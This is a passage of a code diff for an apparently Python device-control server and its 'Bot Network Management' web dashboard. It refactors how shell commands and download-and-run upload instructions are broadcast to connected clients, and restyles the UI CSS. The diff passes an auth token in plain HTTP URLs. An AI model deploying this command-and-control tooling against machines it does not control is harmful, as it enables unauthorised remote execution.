-                clients[client_id]["last_seen"] = time.time()
+        if client_id in client_last_seen:
+            client_last_seen[client_id] = time.time()
         db.update_device_last_seen(client_id)
     
     elif msg_type == "command_result":
@@ -2141,7 +2328,7 @@ async def handle_device_message(client_id: str, data: Dict):
             client_id,
             "command_executed",
             data.get("command", ""),
-            json.dumps(data.get("result", {})),
+            _json_dumps(data.get("result", {})),
             "device"
         )
         logging.info(f"Command result from {client_id}: {data.get('result', {}).get('success', False)}")
@@ -2154,721 +2341,893 @@ async def send_command_to_spec(target: str, command: str) -> Dict:
     if not matching_clients:
         return {"error": "no_matching_devices", "target": target}
     
+    # The message is identical for every target, so look up and encode it once
+    is_run_upload = command.startswith("run_upload:")
+    if is_run_upload:
+        # Special handling for run_upload command
+        upload_id = command.split(":", 1)[1]
+        upload_info = db.get_upload(upload_id)
+        
+        if not upload_info:
+            return {
+                "results": {client_id: {"error": "upload_not_found"} for client_id in matching_clients
+                            if client_id in clients},
+                "target": target,
+                "command": command
+            }
+        
+        # Send run_upload command with file URL
+        file_url = f"http://{HOST}:{HTTP_PORT}/files/{upload_id}?token={AUTH_TOKEN}"
+        payload = _json_dumps({
+            "type": "run_upload",
+            "upload_id": upload_id,
+            "file_url": file_url,
+            "filename": upload_info["filename"],
+            "sha256": upload_info["sha256"]
+        })
+    else:
+        payload = _json_dumps({
+            "type": "command",
+            "command": command
+        })
+    
     results = {}
-    async with clients_lock:
-        for client_id in matching_clients:
-            if client_id not in clients:
-                continue
-            
-            client = clients[client_id]
-            websocket = client["websocket"]
+    targets = {}
+    for client_id in matching_clients:
+        client = clients.get(client_id)
+        if client is None:
+            continue
+        
+        # Check if device allows execution
+        if is_run_upload and not client["meta"].get("exec_allowed", False):
+            results[client_id] = {"error": "execution_not_allowed"}
+            continue
+        
+        targets[client_id] = client
+    
+    errors = broadcast_client_message(targets, payload)
+    for client_id in targets:
+        if client_id in errors:
+            results[client_id] = {"error": errors[client_id]}
+            logging.error(f"Failed to send command to {client_id}: {errors[client_id]}")
+        else:
+            results[client_id] = {"status": "sent"}
             
-            try:
-                # Special handling for run_upload command
-                if command.startswith("run_upload:"):
-                    upload_id = command.split(":", 1)[1]
-                    upload_info = db.get_upload(upload_id)
-                    
-                    if not upload_info:
-                        results[client_id] = {"error": "upload_not_found"}
-                        continue
-                    
-                    # Check if device allows execution
-                    if not client["meta"].get("exec_allowed", False):
-                        results[client_id] = {"error": "execution_not_allowed"}
-                        continue
-                    
-                    # Send run_upload command with file URL
-                    file_url = f"http://{HOST}:{HTTP_PORT}/files/{upload_id}?token={AUTH_TOKEN}"
-                    cmd_data = {
-                        "type": "run_upload",
-                        "upload_id": upload_id,
-                        "file_url": file_url,
-                        "filename": upload_info["filename"],
-                        "sha256": upload_info["sha256"]
-                    }
-                else:
-                    cmd_data = {
-                        "type": "command",
-                        "command": command
-                    }
-                
-                await websocket.send(json.dumps(cmd_data))
-                results[client_id] = {"status": "sent"}
-                
-                # Log audit
-                db.log_audit(client_id, "command_sent", command, "sent", "server")
-                
-            except Exception as e:
-                results[client_id] = {"error": str(e)}
-                logging.error(f"Failed to send command to {client_id}: {e}")
+            # Log audit
+            db.log_audit(client_id, "command_sent", command, "sent", "server")
     
     return {"results": results, "target": target, "command": command}
 
 # HTTP server and web UI
-UI_HTML = r"""<!DOCTYPE html>
-<html>
-<head>
-    <meta charset="utf-8">
-    <meta name="viewport" content="width=device-width, initial-scale=1.0, maximum-scale=5.0, user-scalable=yes">
-    <meta name="theme-color" content="#0a0a0a">
-    <meta name="apple-mobile-web-app-capable" content="yes">
-    <meta name="apple-mobile-web-app-status-bar-style" content="black-translucent">
-    <meta name="apple-mobile-web-app-title" content="Unified Control">
-    <meta name="description" content="Unified Device Control System - Professional Bot Network Management">
-    <title>🚀 Unified Control Center - Advanced Device Management</title>
-    <style>
-        * { margin: 0; padding: 0; box-sizing: border-box; }
-        
-        body { 
-            font-family: 'JetBrains Mono', 'Fira Code', 'Consolas', monospace; 
-            background: linear-gradient(135deg, #0a0a0a 0%, #1a1a2e 50%, #16213e 100%); 
-            color: #00ff9f; 
-            overflow-x: hidden; 
-            font-size: 14px;
-        }
-        
-        .matrix-bg {
-            position: fixed;
-            top: 0;
-            left: 0;
-            width: 100%;
-            height: 100%;
-            z-index: -1;
-            opacity: 0.1;
-            background: radial-gradient(circle at 20% 50%, #00ff9f 0%, transparent 50%), 
-                        radial-gradient(circle at 80% 20%, #ff0080 0%, transparent 50%),
-                        radial-gradient(circle at 40% 80%, #0080ff 0%, transparent 50%);
-        }
-        
-        header { 
-            background: linear-gradient(90deg, #0a0a0a 0%, #1a1a2e 50%, #0a0a0a 100%);
-            padding: 1rem 2rem; 
-            border-bottom: 2px solid #00ff9f;
-            box-shadow: 0 4px 20px rgba(0, 255, 159, 0.3);
-            position: relative;
-            z-index: 100;
-        }
-        
-        .header-content {
-            display: flex;
-            justify-content: space-between;
-            align-items: center;
-        }
-        
-        .logo {
-            font-size: 24px;
-            font-weight: bold;
-            text-shadow: 0 0 10px #00ff9f;
-            animation: pulse 2s infinite;
-        }
-        
-        @keyframes pulse {
-            0%, 100% { text-shadow: 0 0 10px #00ff9f; }
-            50% { text-shadow: 0 0 20px #00ff9f, 0 0 30px #00ff9f; }
-        }
-        
-        .system-stats {
-            display: flex;
-            gap: 1rem;
-            font-size: 12px;
-        }
-        
-        .stat-item {
-            background: rgba(0, 255, 159, 0.1);
-            padding: 0.5rem;
-            border-radius: 4px;
-            border: 1px solid #00ff9f;
-        }
-        
-        .main-container {
-            display: grid;
-            grid-template-columns: 300px 1fr 400px;
-            height: calc(100vh - 80px);
-            gap: 1rem;
-            padding: 1rem;
-        }
-        
-        .panel {
-            background: rgba(26, 26, 46, 0.8);
-            border: 1px solid #00ff9f;
-            border-radius: 8px;
-            padding: 1rem;
-            backdrop-filter: blur(10px);
-            box-shadow: 0 8px 32px rgba(0, 255, 159, 0.1);
-        }
-        
-        .panel-header {
-            display: flex;
-            justify-content: space-between;
-            align-items: center;
-            margin-bottom: 1rem;
-            padding-bottom: 0.5rem;
-            border-bottom: 1px solid #00ff9f;
-        }
-        
-        .panel-title {
-            color: #00ff9f;
-            font-size: 16px;
-            font-weight: bold;
-            text-transform: uppercase;
-        }
-        
-        .device-list {
-            max-height: 400px;
-            overflow-y: auto;
-        }
-        
-        .device-item {
-            background: rgba(0, 255, 159, 0.05);
-            border: 1px solid rgba(0, 255, 159, 0.3);
-            border-radius: 4px;
-            padding: 0.75rem;
-            margin-bottom: 0.5rem;
-            cursor: pointer;
-            transition: all 0.3s ease;
-            position: relative;
-        }
-        
-        .device-item:hover {
-            background: rgba(0, 255, 159, 0.1);
-            border-color: #00ff9f;
-            transform: translateX(5px);
-        }
-        
-        .device-item.selected {
-            background: rgba(0, 255, 159, 0.2);
-            border-color: #00ff9f;
-        }
-        
-        .device-status {
-            display: inline-block;
-            width: 10px;
-            height: 10px;
-            border-radius: 50%;
-            margin-right: 0.5rem;
-            animation: blink 2s infinite;
-        }
-        
-        .device-status.online { background: #00ff9f; }
-        .device-status.offline { background: #ff0080; animation: none; }
-        
-        @keyframes blink {
-            0%, 50% { opacity: 1; }
-            51%, 100% { opacity: 0.3; }
-        }
-        
-        .device-info {
-            font-size: 12px;
-            color: #a0a0a0;
-            margin-top: 0.25rem;
-        }
-        
-        .command-center {
-            display: flex;
-            flex-direction: column;
-            height: 100%;
-        }
-        
-        .command-tabs {
-            display: flex;
-            margin-bottom: 1rem;
-        }
-        
-        .tab {
-            padding: 0.5rem 1rem;
-            background: rgba(0, 255, 159, 0.1);
-            border: 1px solid #00ff9f;
-            cursor: pointer;
-            transition: all 0.3s ease;
-        }
-        
-        .tab.active {
-            background: #00ff9f;
-            color: #0a0a0a;
-        }
-        
-        .tab:first-child { border-radius: 4px 0 0 4px; }
-        .tab:last-child { border-radius: 0 4px 4px 0; }
-        .tab + .tab { border-left: none; }
-        
-        .command-input-area {
-            display: flex;
-            gap: 0.5rem;
-            margin-bottom: 1rem;
-        }
-        
-        .command-input {
-            flex: 1;
-            background: rgba(0, 0, 0, 0.5);
-            border: 1px solid #00ff9f;
-            color: #00ff9f;
-            padding: 0.75rem;
-            border-radius: 4px;
-            font-family: inherit;
-            font-size: 14px;
-        }
-        
-        .command-input:focus {
-            outline: none;
-            box-shadow: 0 0 10px rgba(0, 255, 159, 0.5);
-        }
-        
-        .btn {
-            background: linear-gradient(45deg, #00ff9f, #00cc7f);
-            color: #0a0a0a;
-            border: none;
-            padding: 0.75rem 1.5rem;
-            border-radius: 4px;
-            cursor: pointer;
-            font-weight: bold;
-            text-transform: uppercase;
-            transition: all 0.3s ease;
-            font-family: inherit;
-        }
-        
-        .btn:hover {
-            background: linear-gradient(45deg, #00cc7f, #00ff9f);
-            box-shadow: 0 4px 15px rgba(0, 255, 159, 0.4);
-            transform: translateY(-2px);
-        }
-        
-        .btn-danger {
-            background: linear-gradient(45deg, #ff0080, #cc0066);
-            color: white;
-        }
-        
-        .btn-secondary {
-            background: linear-gradient(45deg, #0080ff, #0066cc);
-            color: white;
-        }
-        
-        .terminal {
-            flex: 1;
-            background: rgba(0, 0, 0, 0.8);
-            border: 1px solid #00ff9f;
-            border-radius: 4px;
-            padding: 1rem;
-            overflow-y: auto;
-            font-family: 'Courier New', monospace;
-            font-size: 13px;
-            line-height: 1.4;
-            max-height: 500px;
-        }
-        
-        .terminal-line {
-            margin-bottom: 0.5rem;
-            word-wrap: break-word;
-        }
-        
-        .terminal-timestamp {
-            color: #666;
-            font-size: 11px;
-        }
-        
-        .terminal-success { color: #00ff9f; }
-        .terminal-error { color: #ff0080; }
-        .terminal-warning { color: #ffaa00; }
-        .terminal-info { color: #0080ff; }
-        .terminal-command { color: #ffffff; font-weight: bold; }
-        .terminal-output { color: #cccccc; font-family: 'Courier New', monospace; background: rgba(0,0,0,0.3); padding: 0.2rem; margin-left: 1rem; }
-        
-        .file-drop-zone {
-            border: 2px dashed #00ff9f;
-            border-radius: 8px;
-            padding: 2rem;
-            text-align: center;
-            margin-bottom: 1rem;
-            transition: all 0.3s ease;
-            cursor: pointer;
-        }
-        
-        .file-drop-zone:hover, .file-drop-zone.dragover {
-            background: rgba(0, 255, 159, 0.1);
-            border-color: #00cc7f;
-        }
-        
-        .service-list {
-            max-height: 300px;
-            overflow-y: auto;
-        }
-        
-        .service-item {
-            background: rgba(0, 0, 0, 0.3);
-            border: 1px solid rgba(0, 255, 159, 0.3);
-            border-radius: 4px;
-            padding: 0.5rem;
-            margin-bottom: 0.5rem;
-            display: flex;
-            justify-content: space-between;
-            align-items: center;
-        }
-        
-        .service-controls {
-            display: flex;
-            gap: 0.25rem;
-        }
-        
-        .quick-commands {
-            display: grid;
-            grid-template-columns: repeat(2, 1fr);
-            gap: 0.5rem;
-            margin-bottom: 1rem;
-        }
-        
-        .quick-cmd {
-            background: rgba(0, 255, 159, 0.1);
-            border: 1px solid #00ff9f;
-            color: #00ff9f;
-            padding: 0.5rem;
-            border-radius: 4px;
-            cursor: pointer;
-            transition: all 0.3s ease;
-            font-size: 12px;
-            text-align: center;
-        }
-        
-        .quick-cmd:hover {
-            background: rgba(0, 255, 159, 0.2);
-            transform: scale(1.05);
-        }
-        
-        .device-groups {
-            margin-bottom: 1rem;
-        }
-        
-        .group-tag {
-            display: inline-block;
-            background: rgba(0, 128, 255, 0.2);
-            color: #0080ff;
-            padding: 0.25rem 0.5rem;
-            border-radius: 3px;
-            font-size: 11px;
-            margin: 0.125rem;
-            border: 1px solid #0080ff;
-        }
-        
-        .metrics-grid {
-            display: grid;
-            grid-template-columns: repeat(2, 1fr);
-            gap: 0.5rem;
-            margin-bottom: 1rem;
-        }
-        
-        .metric-item {
-            background: rgba(0, 0, 0, 0.5);
-            padding: 0.75rem;
-            border-radius: 4px;
-            border: 1px solid rgba(0, 255, 159, 0.3);
-            text-align: center;
-        }
-        
-        .metric-value {
-            font-size: 18px;
-            font-weight: bold;
-            color: #00ff9f;
-        }
-        
-        .metric-label {
-            font-size: 11px;
-            color: #666;
-            text-transform: uppercase;
-        }
-        
-        /* Enhanced Mobile Responsiveness */
-        @media (max-width: 768px) {
-            .main-container {
-                grid-template-columns: 1fr;
-                grid-template-rows: auto auto 1fr;
-                padding: 0.5rem;
-            }
-            
-            .header-content {
-                flex-direction: column;
-                gap: 1rem;
-            }
-            
-            .system-stats {
-                flex-wrap: wrap;
-            }
-            
-            /* Mobile-optimized panels */
-            .panel {
-                padding: 0.75rem;
-                margin: 0.5rem 0;
-            }
-            
-            /* Touch-friendly buttons */
-            .btn, .operation-btn, .tab {
-                min-height: 44px; /* iOS recommended minimum */
-                padding: 0.75rem 1rem;
-                font-size: 14px;
-            }
-            
-            /* Larger input fields for mobile */
-            .command-input, input, select, textarea {
-                min-height: 44px;
-                font-size: 16px; /* Prevents iOS zoom */
-                padding: 0.75rem;
-            }
-            
-            /* Mobile-friendly terminal */
-            .terminal {
-                font-size: 12px;
-                max-height: 250px;
-            }
-            
-            /* Responsive device list */
-            .device-item {
-                padding: 0.75rem;
-                margin: 0.5rem 0;
-            }
-            
-            /* Stack metrics vertically on mobile */
-            .metrics-grid {
-                grid-template-columns: 1fr;
-            }
-            
-            /* Mobile-friendly tabs */
-            .command-tabs {
-                overflow-x: auto;
-                -webkit-overflow-scrolling: touch;
-            }
-            
-            /* Hide less critical info on mobile */
-            .device-info {
-                font-size: 11px;
-            }
-        }
-        
-        /* Tablet optimization */
-        @media (min-width: 769px) and (max-width: 1024px) {
-            .main-container {
-                grid-template-columns: 1fr 1fr;
-                padding: 1rem;
-            }
-            
-            .metrics-grid {
-                grid-template-columns: repeat(2, 1fr);
-            }
-        }
-        
-        /* Touch-friendly improvements for all devices */
-        * {
-            -webkit-tap-highlight-color: rgba(0, 255, 159, 0.2);
-            touch-action: manipulation; /* Prevents double-tap zoom */
-        }
-        
-        /* Smooth scrolling for all containers */
-        .terminal, .device-list, .service-list, .file-list {
-            -webkit-overflow-scrolling: touch;
-            scroll-behavior: smooth;
-        }
-        
-        .notification {
-            position: fixed;
-            top: 100px;
-            right: 20px;
-            background: rgba(0, 255, 159, 0.9);
-            color: #0a0a0a;
-            padding: 1rem;
-            border-radius: 4px;
-            box-shadow: 0 4px 20px rgba(0, 255, 159, 0.3);
-            z-index: 1000;
-            animation: slideIn 0.3s ease;
-        }
-        
-        @keyframes slideIn {
-            from { transform: translateX(100%); opacity: 0; }
-            to { transform: translateX(0); opacity: 1; }
-        }
-        
-        .progress-bar {
-            width: 100%;
-            height: 4px;
-            background: rgba(0, 255, 159, 0.2);
-            border-radius: 2px;
-            overflow: hidden;
-            margin: 0.5rem 0;
-        }
-        
-        .progress-fill {
-            height: 100%;
-            background: linear-gradient(90deg, #00ff9f, #00cc7f);
-            transition: width 0.3s ease;
-        }
-        
-        /* Bot Management Styles */
-        .panel-controls {
-            display: flex;
-            gap: 0.5rem;
-        }
-        
-        .bot-management {
-            margin-bottom: 1rem;
-        }
-        
-        .bot-creation-section {
-            background: rgba(0, 0, 0, 0.3);
-            padding: 1rem;
-            border-radius: 4px;
-            margin-bottom: 1rem;
-            border: 1px solid rgba(0, 255, 159, 0.3);
-        }
-        
-        .bot-action-buttons {
-            display: flex;
-            gap: 0.5rem;
-            margin-top: 0.5rem;
-        }
-        
-        .bot-control-header {
-            margin-bottom: 1.5rem;
-        }
-        
-        .bot-overview-stats {
-            display: flex;
-            gap: 1rem;
-            margin-top: 1rem;
-        }
-        
-        .stat-card {
-            background: rgba(0, 0, 0, 0.5);
-            padding: 1rem;
-            border-radius: 4px;
-            border: 1px solid rgba(0, 255, 159, 0.3);
-            text-align: center;
-            flex: 1;
-        }
-        
-        .stat-number {
-            font-size: 24px;
-            font-weight: bold;
-            color: #00ff9f;
-        }
-        
-        .stat-label {
-            font-size: 11px;
-            color: #666;
-            text-transform: uppercase;
-            margin-top: 0.5rem;
-        }
-        
-        .bot-templates-section {
-            margin-bottom: 1.5rem;
-        }
-        
-        .bot-templates-grid {
-            display: grid;
-            grid-template-columns: repeat(2, 1fr);
-            gap: 0.75rem;
-            margin-top: 0.75rem;
-        }
-        
-        .bot-template-card {
-            background: rgba(0, 0, 0, 0.5);
-            border: 1px solid rgba(0, 255, 159, 0.3);
-            border-radius: 4px;
-            padding: 1rem;
-            cursor: pointer;
-            transition: all 0.3s ease;
-            text-align: center;
-        }
-        
-        .bot-template-card:hover {
-            background: rgba(0, 255, 159, 0.1);
-            border-color: #00ff9f;
-            transform: translateY(-2px);
-        }
-        
-        .template-icon {
-            font-size: 24px;
-            margin-bottom: 0.5rem;
-        }
-        
-        .template-name {
-            font-weight: bold;
-            color: #00ff9f;
-            margin-bottom: 0.25rem;
-        }
-        
-        .template-desc {
-            font-size: 11px;
-            color: #666;
-        }
-        
-        .bulk-bot-operations {
-            margin-bottom: 1.5rem;
-        }
-        
-        .bulk-controls {
-            display: flex;
-            gap: 0.5rem;
-            margin-top: 0.75rem;
-            flex-wrap: wrap;
-        }
-        
-        .bulk-controls select {
-            flex: 1;
-            min-width: 150px;
-        }
-        
-        .custom-command-area {
-            margin-top: 0.75rem;
-        }
-        
-        .bot-network-operations {
-            margin-bottom: 1.5rem;
-        }
-        
-        .network-operations-grid {
-            display: grid;
-            grid-template-columns: repeat(2, 1fr);
-            gap: 0.5rem;
-            margin-top: 0.75rem;
-        }
-        
-        .operation-btn {
-            background: rgba(0, 128, 255, 0.1);
-            border: 1px solid #0080ff;
-            color: #0080ff;
-            padding: 0.75rem;
-            border-radius: 4px;
-            cursor: pointer;
-            transition: all 0.3s ease;
-            display: flex;
-            flex-direction: column;
-            align-items: center;
-            gap: 0.25rem;
-        }
-        
-        .operation-btn:hover {
-            background: rgba(0, 128, 255, 0.2);
-            transform: scale(1.05);
-        }
-        
-        .op-icon {
-            font-size: 18px;
-        }
-        
-        .op-label {
-            font-size: 11px;
-            font-weight: bold;
-        }
-        
-        .bot-results-area {
-            margin-bottom: 1rem;
-        }
-        
-        .network-stats {
-            margin-top: 1rem;
-        }
-        
-        .group-tag.active {
-            background: #00ff9f;
-            color: #0a0a0a;
-        }
-    </style>
+UI_CSS = r""":root {
+    /* Theme colours; alpha variants are precomputed so each colour is parsed once here */
+    --accent: #00ff9f;
+    --danger: #ff0080;
+    --info: #0080ff;
+    --bg-panel: #1a1a2e;
+    --accent-05: rgba(0, 255, 159, 0.05);
+    --accent-10: rgba(0, 255, 159, 0.1);
+    --accent-20: rgba(0, 255, 159, 0.2);
+    --accent-30: rgba(0, 255, 159, 0.3);
+    --accent-40: rgba(0, 255, 159, 0.4);
+    --accent-50: rgba(0, 255, 159, 0.5);
+    --accent-90: rgba(0, 255, 159, 0.9);
+    --info-10: rgba(0, 128, 255, 0.1);
+    --info-20: rgba(0, 128, 255, 0.2);
+    /* Shared gradients and shadows */
+    --grad-accent: linear-gradient(45deg, var(--accent), #00cc7f);
+    --grad-accent-hover: linear-gradient(45deg, #00cc7f, var(--accent));
+    --grad-accent-bar: linear-gradient(90deg, var(--accent), #00cc7f);
+    --grad-danger: linear-gradient(45deg, var(--danger), #cc0066);
+    --grad-info: linear-gradient(45deg, var(--info), #0066cc);
+    --grad-surface: linear-gradient(135deg, var(--bg-panel) 0%, #16213e 100%);
+    --shadow-accent: 0 4px 15px var(--accent-40);
+    --shadow-glow: 0 4px 20px var(--accent-30);
+}
+
+* { margin: 0; padding: 0; box-sizing: border-box; }
+
+body { 
+    font-family: 'JetBrains Mono', 'Fira Code', 'Consolas', monospace; 
+    background: linear-gradient(135deg, #0a0a0a 0%, var(--bg-panel) 50%, #16213e 100%); 
+    color: var(--accent); 
+    overflow-x: hidden; 
+    font-size: 14px;
+}
+
+.matrix-bg {
+    position: fixed;
+    top: 0;
+    left: 0;
+    width: 100%;
+    height: 100%;
+    z-index: -1;
+    opacity: 0.1;
+    background: radial-gradient(circle at 20% 50%, var(--accent) 0%, transparent 50%), 
+                radial-gradient(circle at 80% 20%, var(--danger) 0%, transparent 50%),
+                radial-gradient(circle at 40% 80%, var(--info) 0%, transparent 50%);
+}
+
+header { 
+    background: linear-gradient(90deg, #0a0a0a 0%, var(--bg-panel) 50%, #0a0a0a 100%);
+    padding: 1rem 2rem; 
+    border-bottom: 2px solid var(--accent);
+    box-shadow: var(--shadow-glow);
+    position: relative;
+    z-index: 100;
+}
+
+.header-content {
+    display: flex;
+    justify-content: space-between;
+    align-items: center;
+}
+
+.logo {
+    font-size: 24px;
+    font-weight: bold;
+    text-shadow: 0 0 10px var(--accent);
+}
+
+/* Only glows while the header is on screen (toggled by an IntersectionObserver) */
+@media (prefers-reduced-motion: no-preference) {
+    .logo.is-visible {
+        animation: pulse 2s infinite;
+    }
+}
+
+@keyframes pulse {
+    0%, 100% { text-shadow: 0 0 10px var(--accent); }
+    50% { text-shadow: 0 0 20px var(--accent), 0 0 30px var(--accent); }
+}
+
+.system-stats {
+    display: flex;
+    gap: 1rem;
+    font-size: 12px;
+}
+
+.stat-item {
+    background: var(--accent-10);
+    padding: 0.5rem;
+    border-radius: 4px;
+    border: 1px solid var(--accent);
+}
+
+.main-container {
+    display: grid;
+    grid-template-columns: 300px 1fr 400px;
+    height: calc(100vh - 80px);
+    gap: 1rem;
+    padding: 1rem;
+}
+
+/* Frosted look from a pre-blurred noise tile instead of backdrop-filter, which re-blurs the backdrop on every repaint */
+.panel {
+    background: url("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='32' height='32'><filter id='f'><feTurbulence type='fractalNoise' baseFrequency='0.8' numOctaves='2' stitchTiles='stitch'/><feGaussianBlur stdDeviation='1.5'/><feColorMatrix values='0 0 0 0 0.102 0 0 0 0 0.102 0 0 0 0 0.18 0 0 0 0.35 0'/></filter><rect width='32' height='32' filter='url(%23f)'/></svg>"),
+                rgba(26, 26, 46, 0.8);
+    border: 1px solid var(--accent);
+    border-radius: 8px;
+    padding: 1rem;
+    box-shadow: 0 8px 32px var(--accent-10);
+    contain: layout paint style;
+}
+
+.panel-header {
+    display: flex;
+    justify-content: space-between;
+    align-items: center;
+    margin-bottom: 1rem;
+    padding-bottom: 0.5rem;
+    border-bottom: 1px solid var(--accent);
+}
+
+.panel-title {
+    color: var(--accent);
+    font-size: 16px;
+    font-weight: bold;
+    text-transform: uppercase;
+}
+
+.device-list {
+    max-height: 400px;
+    overflow-y: auto;
+}
+
+/* Fixed row height so the virtualized list can map scrollTop to a row index (DEVICE_ROW_HEIGHT in JS) */
+.device-item {
+    background: var(--accent-05);
+    border: 1px solid var(--accent-30);
+    border-radius: 4px;
+    padding: 0.75rem;
+    margin-bottom: 0.5rem;
+    height: 64px;
+    overflow: hidden;
+    white-space: nowrap;
+    cursor: pointer;
+    transition: all 0.3s ease;
+    position: relative;
+    contain: layout paint style;
+}
+
+.device-item:hover {
+    background: var(--accent-10);
+    border-color: var(--accent);
+    transform: translateX(5px);
+}
+
+/* Row and status states are single classes (di-*, dsi-*) so they match without compound selectors */
+.di-sel, .di-sel:hover {
+    background: var(--accent-20);
+    border-color: var(--accent);
+}
+
+.device-status {
+    display: inline-block;
+    width: 10px;
+    height: 10px;
+    border-radius: 50%;
+    margin-right: 0.5rem;
+}
+
+.dsi-online { background: var(--accent); }
+.dsi-offline { background: var(--danger); }
+
+/* Opacity-only keyframes run on the compositor; body.paused stops them while the tab is hidden */
+@media (prefers-reduced-motion: no-preference) {
+    .dsi-online { animation: blink 2s infinite; }
+}
+
+@keyframes blink {
+    0%, 50% { opacity: 1; }
+    51%, 100% { opacity: 0.3; }
+}
+
+.device-info {
+    font-size: 12px;
+    color: #a0a0a0;
+    margin-top: 0.25rem;
+}
+
+.command-center {
+    display: flex;
+    flex-direction: column;
+    height: 100%;
+}
+
+.command-tabs {
+    display: flex;
+    margin-bottom: 1rem;
+}
+
+.tab {
+    padding: 0.5rem 1rem;
+    background: var(--accent-10);
+    border: 1px solid var(--accent);
+    cursor: pointer;
+    transition: all 0.3s ease;
+}
+
+.tab.active {
+    background: var(--accent);
+    color: #0a0a0a;
+}
+
+.tab:first-child { border-radius: 4px 0 0 4px; }
+.tab:last-child { border-radius: 0 4px 4px 0; }
+.tab + .tab { border-left: none; }
+
+.command-input-area {
+    display: flex;
+    gap: 0.5rem;
+    margin-bottom: 1rem;
+}
+
+.command-input {
+    flex: 1;
+    background: rgba(0, 0, 0, 0.5);
+    border: 1px solid var(--accent);
+    color: var(--accent);
+    padding: 0.75rem;
+    border-radius: 4px;
+    font-family: inherit;
+    font-size: 14px;
+}
+
+.command-input:focus {
+    outline: none;
+    box-shadow: 0 0 10px var(--accent-50);
+}
+
+.btn {
+    background: var(--grad-accent);
+    color: #0a0a0a;
+    border: none;
+    padding: 0.75rem 1.5rem;
+    border-radius: 4px;
+    cursor: pointer;
+    font-weight: bold;
+    text-transform: uppercase;
+    transition: all 0.3s ease;
+    font-family: inherit;
+}
+
+.btn:hover {
+    background: var(--grad-accent-hover);
+    box-shadow: var(--shadow-accent);
+    transform: translateY(-2px);
+}
+
+.btn-danger {
+    background: var(--grad-danger);
+    color: white;
+}
+
+.btn-secondary {
+    background: var(--grad-info);
+    color: white;
+}
+
+.terminal {
+    flex: 1;
+    background: rgba(0, 0, 0, 0.8);
+    border: 1px solid var(--accent);
+    border-radius: 4px;
+    padding: 1rem;
+    overflow-y: auto;
+    font-family: 'Courier New', monospace;
+    font-size: 13px;
+    line-height: 1.4;
+    max-height: 500px;
+    /* No size containment: the terminal is sized by its flex parent and max-height */
+    contain: layout paint style;
+    content-visibility: auto;
+    contain-intrinsic-size: auto 500px;
+}
+
+.terminal-line {
+    margin-bottom: 0.5rem;
+    word-wrap: break-word;
+    /* Off-screen lines skip style and paint; auto remembers each line's last rendered height */
+    content-visibility: auto;
+    contain-intrinsic-size: auto 24px;
+}
+
+/* Hidden tabs keep their rendering state, so switching back skips a full restyle */
+.tab-content.tab-hidden { content-visibility: hidden; }
+@supports not (content-visibility: hidden) {
+    .tab-content.tab-hidden { display: none; }
+}
+
+.terminal-timestamp {
+    color: #666;
+    font-size: 11px;
+}
+
+.terminal-details summary {
+    cursor: pointer;
+    color: #666;
+    font-size: 11px;
+}
+
+.terminal-details pre {
+    white-space: pre-wrap;
+    margin: 0.25rem 0 0 1rem;
+}
+
+.terminal-success { color: var(--accent); }
+.terminal-error { color: var(--danger); }
+.terminal-warning { color: #ffaa00; }
+.terminal-info { color: var(--info); }
+.terminal-command { color: #ffffff; font-weight: bold; }
+.terminal-output { color: #cccccc; font-family: 'Courier New', monospace; background: rgba(0,0,0,0.3); padding: 0.2rem; margin-left: 1rem; }
+
+.file-drop-zone {
+    border: 2px dashed var(--accent);
+    border-radius: 8px;
+    padding: 2rem;
+    text-align: center;
+    margin-bottom: 1rem;
+    transition: all 0.3s ease;
+    cursor: pointer;
+}
+
+.file-drop-zone:hover, .file-drop-zone.dragover {
+    background: var(--accent-10);
+    border-color: #00cc7f;
+}
+
+.service-list {
+    max-height: 300px;
+    overflow-y: auto;
+}
+
+.service-item {
+    background: rgba(0, 0, 0, 0.3);
+    border: 1px solid var(--accent-30);
+    border-radius: 4px;
+    padding: 0.5rem;
+    margin-bottom: 0.5rem;
+    display: flex;
+    justify-content: space-between;
+    align-items: center;
+    contain: layout paint style;
+}
+
+.service-controls {
+    display: flex;
+    gap: 0.25rem;
+}
+
+.quick-commands {
+    display: grid;
+    grid-template-columns: repeat(2, 1fr);
+    gap: 0.5rem;
+    margin-bottom: 1rem;
+}
+
+.quick-cmd {
+    background: var(--accent-10);
+    border: 1px solid var(--accent);
+    color: var(--accent);
+    padding: 0.5rem;
+    border-radius: 4px;
+    cursor: pointer;
+    transition: all 0.3s ease;
+    font-size: 12px;
+    text-align: center;
+}
+
+.quick-cmd:hover {
+    background: var(--accent-20);
+    transform: scale(1.05);
+}
+
+.device-groups {
+    margin-bottom: 1rem;
+}
+
+.group-tag {
+    display: inline-block;
+    background: var(--info-20);
+    color: var(--info);
+    padding: 0.25rem 0.5rem;
+    border-radius: 3px;
+    font-size: 11px;
+    margin: 0.125rem;
+    border: 1px solid var(--info);
+}
+
+.metrics-grid {
+    display: grid;
+    grid-template-columns: repeat(2, 1fr);
+    gap: 0.5rem;
+    margin-bottom: 1rem;
+}
+
+.metric-item {
+    background: rgba(0, 0, 0, 0.5);
+    padding: 0.75rem;
+    border-radius: 4px;
+    border: 1px solid var(--accent-30);
+    text-align: center;
+    contain: layout paint style;
+}
+
+.metric-value {
+    font-size: 18px;
+    font-weight: bold;
+    color: var(--accent);
+}
+
+.metric-label {
+    font-size: 11px;
+    color: #666;
+    text-transform: uppercase;
+}
+
+/* Enhanced Mobile Responsiveness */
+@media (max-width: 768px) {
+    .main-container {
+        grid-template-columns: 1fr;
+        grid-template-rows: auto auto 1fr;
+        padding: 0.5rem;
+    }
+    
+    .header-content {
+        flex-direction: column;
+        gap: 1rem;
+    }
+    
+    .system-stats {
+        flex-wrap: wrap;
+    }
+    
+    /* Mobile-optimized panels */
+    .panel {
+        padding: 0.75rem;
+        margin: 0.5rem 0;
+    }
+    
+    /* Touch-friendly buttons */
+    .btn, .operation-btn, .tab {
+        min-height: 44px; /* iOS recommended minimum */
+        padding: 0.75rem 1rem;
+        font-size: 14px;
+    }
+    
+    /* Larger input fields for mobile */
+    .command-input, input, select, textarea {
+        min-height: 44px;
+        font-size: 16px; /* Prevents iOS zoom */
+        padding: 0.75rem;
+    }
+    
+    /* Mobile-friendly terminal */
+    .terminal {
+        font-size: 12px;
+        max-height: 250px;
+    }
+    
+    /* Responsive device list */
+    .device-item {
+        padding: 0.75rem;
+        margin: 0 0 0.5rem;
+    }
+    
+    /* Stack metrics vertically on mobile */
+    .metrics-grid {
+        grid-template-columns: 1fr;
+    }
+    
